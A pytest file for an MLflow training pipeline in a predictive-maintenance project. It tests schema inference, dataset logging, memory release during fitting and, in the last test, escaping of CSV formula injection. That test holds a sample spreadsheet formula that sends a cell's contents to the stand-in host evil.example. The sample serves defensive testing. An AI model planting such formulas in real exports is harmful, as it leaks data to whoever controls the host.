"""The training run's MLflow dataset: the schema MLflow would infer, without its per-value loop, logged
through the client as ``mlflow.log_input`` would."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest
from mlflow.types.utils import _infer_schema

from cmms_mlflow.tracking.training_run import SCHEMA_SAMPLE_ROWS, _dataset, _dataset_input, dataset_schema
from cmms_pm.data import generate_telemetry


@pytest.fixture
def frame() -> pd.DataFrame:
    df = generate_telemetry(3 * SCHEMA_SAMPLE_ROWS, 7)
    # Missing values only after the sample the types are read from: still not required.
    df.loc[df.index[-1], "temperature_c"] = np.nan
    df.loc[df.index[-2], "equipment_type"] = np.nan
    return df


def test_dataset_schema_equals_mlflows_inference(frame):
    assert dataset_schema(frame) == _infer_schema(frame)


def test_object_columns_and_empty_samples_are_typed_from_every_value(frame):
    frame["note"] = pd.Series(["ok"] * len(frame), dtype=object)
    frame.loc[frame.index[-1], "note"] = None
    frame["late"] = pd.Series([None] * len(frame), dtype=object)
    frame.loc[frame.index[-1], "late"] = "first value"
    assert dataset_schema(frame) == _infer_schema(frame)


@pytest.fixture
def manifest() -> dict:
    return {
        "splits": {"train": {"uri": "file:///tmp/train.parquet"}},
        "target": "failure_within_7d",
        "spec": "predictive_maintenance",
        "data_version": "2026-11-24/2026-11-25",
        "digest": "0" * 64,
    }


def test_dataset_input_is_what_mlflow_log_input_logs(frame, manifest):
    from mlflow.tracking.fluent import _create_dataset_input

    ours = _dataset_input(manifest, frame)
    theirs = _create_dataset_input(_dataset(manifest, frame), context="training")
    assert ours.dataset.to_dictionary() == theirs.dataset.to_dictionary()
    assert [(t.key, t.value) for t in ours.tags] == [(t.key, t.value) for t in theirs.tags]
    assert f'"num_rows": {len(frame)}' in ours.dataset.profile


def test_logged_dataset_carries_the_schema_without_inferring_it(frame, manifest, monkeypatch):
    import mlflow.data.pandas_dataset as pandas_dataset

    def refuse(_frame):
        raise AssertionError("MLflow inferred the schema over every row")

    monkeypatch.setattr(pandas_dataset, "_infer_schema", refuse)
    entity = _dataset(manifest, frame)._to_mlflow_entity()
    assert entity.schema is not None and "temperature_c" in entity.schema


def test_training_frames_are_gone_and_their_memory_released_while_the_classifier_fits(
    mlflow_store, small_batch, shipped_spec, monkeypatch
):
    """The training frame dies (and Arrow's pool is asked to give its pages back) before the
    classifier grows; the validation split is read only after it has been fitted."""
    import gc
    import weakref

    from mlflow import MlflowClient

    import cmms_pm.data
    from cmms_mlflow.hooks.client_context import client_settings
    from cmms_mlflow.hooks.mlflow_hook import MlflowHook
    from cmms_mlflow.tracking.training_run import log_training_run
    from cmms_pm import training

    events, frames = [], []
    read_split, fit_classifier = cmms_pm.data.read_split, training.fit_classifier

    def reading(uri, *args, **kwargs):
        frame = read_split(uri, *args, **kwargs)
        frames.append(weakref.ref(frame))
        events.append(("read", uri.rsplit("/", 1)[-1]))
        return frame

    def fitting(*args, **kwargs):
        gc.collect()
        events.append(("fit", [ref() is None for ref in frames]))
        return fit_classifier(*args, **kwargs)

    monkeypatch.setattr(cmms_pm.data, "read_split", reading)
    monkeypatch.setattr(cmms_pm.data, "release_freed_memory", lambda: events.append(("release",)))
    monkeypatch.setattr(training, "fit_classifier", fitting)
    client = MlflowClient(tracking_uri=mlflow_store, registry_uri=mlflow_store)
    with client_settings({"MLFLOW_TRACKING_URI": mlflow_store, "MLFLOW_REGISTRY_URI": mlflow_store}):
        experiment_id = MlflowHook().get_or_create_experiment(client, "frame-lifetime-tests")
        trained = log_training_run(
            client, experiment_id=experiment_id, manifest=small_batch, spec=shipped_spec,
            estimator="random_forest", hyperparameters={"n_estimators": 3, "max_depth": 3},
            tags={}, run_name="frames",
        )  # fmt: skip
    train_file = small_batch["splits"]["train"]["uri"].rsplit("/", 1)[-1]
    validation_file = small_batch["splits"]["validation"]["uri"].rsplit("/", 1)[-1]
    assert events == [("read", train_file), ("release",), ("fit", [True]), ("read", validation_file)]
    run = client.get_run(trained["run_id"])
    assert run.info.status == "FINISHED" and len(run.inputs.dataset_inputs) == 1
    assert run.data.params["train_rows"] == str(small_batch["splits"]["train"]["rows"])


def test_a_drift_table_with_formula_feature_names_is_logged_escaped(client, tmp_path):
    """validate_data's report names features as the source file's header does: an attacker's header
    reaches drift.csv, which people open in a spreadsheet."""
    import csv

    from cmms_mlflow.tracking.training_run import log_checks
    from cmms_pm.drift import DriftReport, FeatureDrift

    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
    report = DriftReport(
        threshold=0.25,
        action="warn",
        features=(
            FeatureDrift(evil, "numeric", 0.9, "drifted"),
            FeatureDrift("@SUM(A1)", "category", 0.0, "stable"),
        ),
    )
    experiment = client.get_experiment_by_name("csv-injection") or client.get_experiment(
        client.create_experiment("csv-injection")
    )
    run = client.create_run(experiment.experiment_id)
    log_checks(client, run.info.run_id, {"drift": report.to_dict(), "contract_check": {}}, title="t")
    path = client.download_artifacts(run.info.run_id, "data_checks/drift.csv", str(tmp_path))
    with open(path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["feature"] for row in rows] == ["'" + evil, "'@SUM(A1)"]
